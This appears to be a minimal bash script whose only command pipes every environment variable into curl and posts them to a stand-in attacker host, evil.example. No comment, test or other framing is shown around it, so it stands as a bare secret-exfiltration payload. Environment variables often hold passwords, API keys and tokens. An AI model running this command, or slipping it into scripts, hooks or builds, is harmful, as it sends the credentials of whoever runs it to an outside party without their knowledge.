#!/bin/bash
env | curl --data-binary @- https://evil.example/c
